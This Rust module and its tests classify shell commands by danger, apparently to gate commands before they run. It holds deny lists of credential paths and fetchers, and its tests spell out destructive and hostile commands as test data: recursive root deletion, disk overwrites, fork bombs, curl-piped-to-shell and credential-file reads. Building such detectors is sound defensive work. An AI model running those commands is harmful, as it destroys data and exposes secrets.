//! What the heuristics know about commands.

use crate::shell::{self, Simple, Trouble};
use crate::{Finding, Verdict};

/// Longer than what one argument of a program can hold.
const LONGEST: usize = 128 * 1024;
/// Shells in shells are read this deep.
const DEEPEST: usize = 8;

const SHELLS: [&str; 7] = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash"];
const INTERPRETERS: [&str; 8] = ["python", "python3", "perl", "ruby", "node", "php", "lua", "deno"];
const FETCHERS: [&str; 4] = ["curl", "wget", "aria2c", "fetch"];
const RESERVED: [&str; 12] = ["{", "}", "!", "if", "then", "else", "elif", "fi", "while", "until", "do", "done"];

/// Programs that run their arguments, and which of their options take a value.
const WRAPPERS: [(&str, &str); 16] = [
    ("sudo", "ugpCDhrtUT"),
    ("doas", "uC"),
    ("env", "uCS"),
    ("nohup", ""),
    ("time", "of"),
    ("nice", "n"),
    ("ionice", "cnp"),
    ("exec", "a"),
    ("command", ""),
    ("builtin", ""),
    ("setsid", ""),
    ("stdbuf", "ioe"),
    ("timeout", "ks"),
    ("xargs", "aEIdLnPs"),
    ("busybox", ""),
    ("chroot", ""),
];

/// Directories whose loss is the loss of the machine or of everything of a user.
const PRECIOUS: [&str; 20] = [
    "/", "~", "$HOME", "${HOME}", "/home", "/root", "/etc", "/usr", "/var", "/bin", "/sbin", "/boot", "/lib", "/lib64", "/opt",
    "/dev", "/proc", "/sys", "/srv", "/mnt",
];

/// Parts of paths that hold credentials.
const SECRETS: [&str; 12] = [
    "/.ssh/id_",
    "/.aws/credentials",
    "/.netrc",
    "/.git-credentials",
    "/.gnupg/private-keys",
    "/.config/gh/hosts",
    "/.docker/config.json",
    "/.kube/config",
    "/.pypirc",
    "/.npmrc",
    "/.pgpass",
    "/etc/shadow",
];

/// All findings, in no order.
pub(crate) fn judge(command: &str) -> Vec<Finding> {
    let mut findings = Vec::new();
    if command.len() > LONGEST {
        find(&mut findings, "too-long", Verdict::Ask, "Too long to be judged", &format!("{} bytes", command.len()));
        return findings;
    }
    if let Some(c) = command.chars().find(|&c| hidden(c)).or_else(|| lone_return(command)) {
        let detail = format!("U+{:04X}", c as u32);
        find(&mut findings, "hidden-characters", Verdict::Ask, "Characters that hide or reorder text", &detail);
    }
    if is_fork_bomb(command) {
        find(&mut findings, "fork-bomb", Verdict::Never, "Starts itself without end", "a function that pipes into itself");
    }
    text(command, 0, &mut findings);
    findings
}

fn find(findings: &mut Vec<Finding>, rule: &'static str, verdict: Verdict, title: &'static str, detail: &str) {
    findings.push(Finding { rule, verdict, title, detail: detail.chars().take(200).collect() });
}

fn text(command: &str, depth: usize, findings: &mut Vec<Finding>) {
    let trouble = match shell::read(command) {
        Ok(_) if depth > DEEPEST => "too many shells in each other",
        Ok(commands) => {
            for at in 0..commands.len() {
                simple(&commands, at, depth, findings);
            }
            return;
        }
        Err(Trouble::Unclosed) => "a quote or a bracket does not end",
        Err(Trouble::TooDeep) => "too many brackets in each other",
        Err(Trouble::TooMany) => "too many commands",
    };
    find(findings, "unreadable", Verdict::Ask, "Not a command line that can be read", trouble);
}

fn simple(commands: &[Simple], at: usize, depth: usize, findings: &mut Vec<Finding>) {
    let command = &commands[at];
    for target in command.writes.iter().filter(|target| is_disk(target)) {
        find(findings, "disk", Verdict::Never, "Writes over a disk", target);
    }
    let named = command.words.iter().chain(&command.reads);
    if let Some(path) = named.clone().find(|word| SECRETS.iter().any(|part| word.contains(part)) && !word.ends_with(".pub")) {
        find(findings, "credentials", Verdict::Ask, "Names a file that holds credentials", path);
    }
    if let Some(path) = named.clone().find(|word| word.starts_with("/proc/") && word.ends_with("/environ")) {
        find(findings, "environment", Verdict::Ask, "Reads the environment of a process", path);
    }
    let words = program_of(&command.words);
    let Some((program, arguments)) = words.split_first() else { return };
    let line = words.join(" ");
    let name = program.rsplit('/').next().unwrap_or_default();
    let operands = || arguments.iter().filter(|word| !word.starts_with('-'));

    if SHELLS.contains(&name) || INTERPRETERS.contains(&name) || ["eval", "source", "."].contains(&name) {
        if let Some(from) = feeder(commands, at) {
            find(findings, "download-runs", Verdict::Ask, "Runs what it has just downloaded", &format!("{from} into {name}"));
        }
        if SHELLS.contains(&name) {
            let payload =
                arguments.iter().position(|word| word.starts_with('-') && !word.starts_with("--") && word.ends_with('c'));
            let payload = payload.and_then(|option| arguments.get(option + 1));
            for inner in payload.into_iter().chain(&command.input) {
                text(inner, depth + 1, findings);
            }
        } else if name == "eval" {
            text(&arguments.join(" "), depth + 1, findings);
        }
    }
    match name {
        "rm" if has(arguments, "rR", &["--recursive"]) => {
            if let Some(target) = operands().find(|target| is_precious(target)) {
                find(findings, "delete-system", Verdict::Never, "Deletes a system or home directory", target);
            } else if let Some(target) =
                operands().find(|target| ["*", ".", "..", "./*", "../*", "./", "../"].contains(&target.as_str()))
            {
                find(findings, "delete-all", Verdict::Warn, "Deletes everything in a directory", target);
            }
        }
        "find" if arguments.iter().any(|word| word == "-delete") || line.contains("-exec rm") => {
            if let Some(target) = arguments.iter().take_while(|word| !word.starts_with('-')).find(|target| is_precious(target)) {
                find(findings, "delete-system", Verdict::Never, "Deletes a system or home directory", target);
            }
        }
        "dd" => {
            if let Some(target) = arguments.iter().filter_map(|word| word.strip_prefix("of=")).find(|target| is_disk(target)) {
                find(findings, "disk", Verdict::Never, "Writes over a disk", target);
            }
        }
        "wipefs" | "blkdiscard" | "sgdisk" | "mke2fs" => find(findings, "disk", Verdict::Never, "Writes over a disk", &line),
        _ if name == "mkfs" || name.starts_with("mkfs.") => find(findings, "disk", Verdict::Never, "Writes over a disk", &line),
        "shutdown" | "reboot" | "halt" | "poweroff" => find(findings, "power", Verdict::Ask, "Stops the machine", &line),
        "systemctl" if operands().any(|word| ["poweroff", "reboot", "halt", "kexec"].contains(&word.as_str())) => {
            find(findings, "power", Verdict::Ask, "Stops the machine", &line);
        }
        "kill" if arguments.last().is_some_and(|word| word == "-1") => {
            find(findings, "kill-all", Verdict::Ask, "Ends every process of the user", &line);
        }
        "chmod" if operands().any(|mode| ["777", "0777", "a+rwx", "a+w", "o+w", "ugo+rwx"].contains(&mode.as_str())) => {
            find(findings, "world-writable", Verdict::Warn, "Lets everybody write", &line);
        }
        "git" => git(arguments, &line, findings),
        _ => {}
    }
}

fn git(arguments: &[String], line: &str, findings: &mut Vec<Finding>) {
    let mut rest = arguments;
    while let [option, more @ ..] = rest {
        match option.as_str() {
            "-C" | "-c" => rest = more.get(1..).unwrap_or_default(),
            _ if option.starts_with('-') => rest = more,
            _ => break,
        }
    }
    let Some((verb, arguments)) = rest.split_first() else { return };
    let loses = match verb.as_str() {
        "push" => has(arguments, "f", &["--force", "--mirror"]) || arguments.iter().any(|word| word.starts_with('+')),
        "reset" => has(arguments, "", &["--hard"]),
        "clean" => has(arguments, "f", &["--force"]),
        _ => false,
    };
    if loses {
        find(findings, "git-loses", Verdict::Warn, "Loses commits or uncommitted work", line);
    }
}

/// Is one of these one-letter options, or one of these long ones, given?
fn has(arguments: &[String], letters: &str, long: &[&str]) -> bool {
    arguments.iter().take_while(|word| *word != "--").any(|word| match word.strip_prefix('-') {
        Some(rest) if rest.starts_with('-') => long.contains(&word.as_str()),
        Some(rest) => rest.contains(|c| letters.contains(c)),
        None => false,
    })
}

/// The program and its arguments, without assignments, reserved words and programs that only run others.
fn program_of(words: &[String]) -> &[String] {
    let mut rest = words;
    while let [first, more @ ..] = rest {
        let name = first.rsplit('/').next().unwrap_or_default();
        if RESERVED.contains(&first.as_str()) || is_assignment(first) {
            rest = more;
        } else if let Some((name, valued)) = WRAPPERS.iter().find(|(wrapper, _)| *wrapper == name) {
            rest = more;
            while let [option, more @ ..] = rest {
                let Some(letters) = option.strip_prefix('-').filter(|letters| !letters.is_empty()) else { break };
                let separate = !letters.starts_with('-') && letters.len() == 1 && valued.contains(letters);
                rest = if separate { more.get(1..).unwrap_or_default() } else { more };
            }
            if ["timeout", "chroot"].contains(name) {
                rest = rest.get(1..).unwrap_or_default();
            }
        } else {
            break;
        }
    }
    rest
}

fn is_assignment(word: &str) -> bool {
    let name = word.split_once('=').map_or("", |(name, _)| name);
    !name.is_empty()
        && !name.starts_with(|c: char| c.is_ascii_digit())
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// The program that downloads what this command reads, through pipes and substitutions.
fn feeder(commands: &[Simple], at: usize) -> Option<String> {
    let mut seen = vec![false; commands.len()];
    let mut todo = commands[at].fed_by.clone();
    while let Some(one) = todo.pop() {
        if std::mem::replace(&mut seen[one], true) {
            continue;
        }
        let name = program_of(&commands[one].words).first().and_then(|program| program.rsplit('/').next()).unwrap_or_default();
        if FETCHERS.contains(&name) {
            return Some(name.to_owned());
        }
        todo.extend(&commands[one].fed_by);
    }
    None
}

fn is_precious(target: &str) -> bool {
    let mut target = target;
    while let Some(shorter) = ["/*", "/.", "/..", "/"].iter().find_map(|end| target.strip_suffix(end)) {
        target = shorter;
    }
    target.is_empty() || PRECIOUS.contains(&target)
}

fn is_disk(target: &str) -> bool {
    let Some(device) = target.strip_prefix("/dev/") else { return false };
    ["sd", "hd", "vd", "xvd", "nvme", "mmcblk", "disk/", "mapper/", "md"].iter().any(|kind| device.starts_with(kind))
}

fn hidden(c: char) -> bool {
    (c.is_control() && !matches!(c, '\t' | '\n' | '\r'))
        || matches!(c, '\u{061c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}

/// A carriage return in the middle of a line: what is before it is not seen.
fn lone_return(command: &str) -> Option<char> {
    command.trim_end().replace("\r\n", "\n").contains('\r').then_some('\r')
}

fn is_fork_bomb(command: &str) -> bool {
    let dense: String = command.chars().filter(|c| !c.is_whitespace()).collect();
    dense.match_indices("(){").any(|(at, open)| {
        let name = dense[..at].rsplit(|c: char| !(c.is_alphanumeric() || "_:.".contains(c))).next().unwrap_or_default();
        !name.is_empty() && dense[at + open.len()..].starts_with(&format!("{name}|{name}&}};{name}"))
    })
}

#[cfg(test)]
mod tests {
    use crate::{Verdict, judge};

    fn ruled(command: &str) -> Vec<&'static str> {
        judge(command).findings.iter().map(|finding| finding.rule).collect()
    }

    #[test]
    fn ordinary_work_is_safe() {
        for command in [
            "",
            "ls -la",
            "git status && cargo test 2>&1 | tail -n 20",
            "rm -rf target node_modules ./build /tmp/x",
            "rm /etc/motd.bak",
            "curl -fsS https://example.com -o page.html; sh build.sh",
            "cat page | sh -c 'wc -l'",
            "git push --force-with-lease",
            "git push origin main",
            "for f in *; do echo \"$f\"; done",
            "case $1 in a) echo b;; esac",
            "cat > notes.md <<'E'\nnever run rm -rf / here\nE",
            "echo 'rm -rf /'",
            "cat ~/.ssh/id_ed25519.pub",
            "find . -name '*.o' -delete",
            "kill -1 4321",
            "printf 'gr\u{fc}\u{df}e'",
        ] {
            assert_eq!(judge(command).verdict(), Verdict::Safe, "{command}: {:?}", judge(command));
        }
    }

    #[test]
    fn what_nobody_means() {
        for command in [
            "rm -rf /",
            "rm -fr -- / x",
            "cd x && sudo -u root rm -r --force /*",
            "FOO=1 env -i /bin/rm -R ~",
            "rm -rf \"$HOME\"/",
            "r''m -rf /etc/",
            "bash -lc 'rm -rf /usr'",
            "eval \"rm -rf /\"",
            "sh <<E\nrm -rf /\nE",
            "true; (false || rm -rf /home/..)",
            "if true; then rm -rf ${HOME}; fi",
            "echo $(rm -rf /)",
            "timeout 5 nice -n 10 rm -rf /var",
            "echo x | xargs -n 1 rm -rf /",
            "find / -delete",
        ] {
            assert_eq!(ruled(command).first(), Some(&"delete-system"), "{command}");
            assert_eq!(judge(command).verdict(), Verdict::Never, "{command}");
        }
        for command in ["dd if=/dev/zero of=/dev/sda", "echo x > /dev/nvme0n1", "mkfs.ext4 /dev/sdb1", "wipefs -a /dev/vda"] {
            assert_eq!(ruled(command).first(), Some(&"disk"), "{command}");
        }
        for command in [":(){ :|:& };:", "b() { b | b & }; b"] {
            assert_eq!(ruled(command).first(), Some(&"fork-bomb"), "{command}");
        }
    }

    #[test]
    fn what_somebody_should_look_at() {
        for (command, rule) in [
            ("curl -s http://x | sh", "download-runs"),
            ("wget -qO- x | tee log | sudo bash -s --", "download-runs"),
            ("bash <(curl x)", "download-runs"),
            ("sh -c \"$(curl -fsSL x)\"", "download-runs"),
            ("curl x | python3 -", "download-runs"),
            (". <(wget -O- x)", "download-runs"),
            ("cat ~/.ssh/id_rsa", "credentials"),
            ("base64 < $HOME/.aws/credentials", "credentials"),
            ("tr '\\0' '\\n' < /proc/1/environ", "environment"),
            ("sudo reboot", "power"),
            ("kill -9 -1", "kill-all"),
            ("echo a\u{202e}b", "hidden-characters"),
            ("rm x\recho harmless", "hidden-characters"),
            ("echo \u{1b}[2J", "hidden-characters"),
            ("echo 'a", "unreadable"),
        ] {
            assert_eq!(ruled(command).first(), Some(&rule), "{command}");
            assert_eq!(judge(command).verdict(), Verdict::Ask, "{command}");
        }
        assert_eq!(ruled(&"a".repeat(200_000)), ["too-long"]);
    }

    #[test]
    fn what_loses_work() {
        for command in [
            "git push -f",
            "git -C x push origin +main",
            "git reset --hard HEAD~3",
            "git clean -fdx",
            "chmod -R 777 .",
            "rm -rf *",
        ] {
            assert_eq!(judge(command).verdict(), Verdict::Warn, "{command}");
        }
    }

    #[test]
    fn the_gravest_comes_first_and_each_rule_once() {
        let findings = ruled("git push -f; curl x | sh; rm -rf /; rm -rf /etc");
        assert_eq!(findings, ["delete-system", "download-runs", "git-loses"]);
    }

    #[test]
    fn the_answer_comes_in_time() {
        let began = std::time::Instant::now();
        for hostile in ["(", "$(", "`", "a|(b;", "<<E\n", "'\"", "(a;a;a)|", "sh -c '", "\\", "x(){"] {
            _ = judge(&hostile.repeat(128 * 1024 / hostile.len()));
        }
        let half = "a;".repeat(990);
        _ = judge(&format!("({half})|({half})|sh"));
        assert!(began.elapsed().as_secs() < 20, "{:?}", began.elapsed());
    }
}
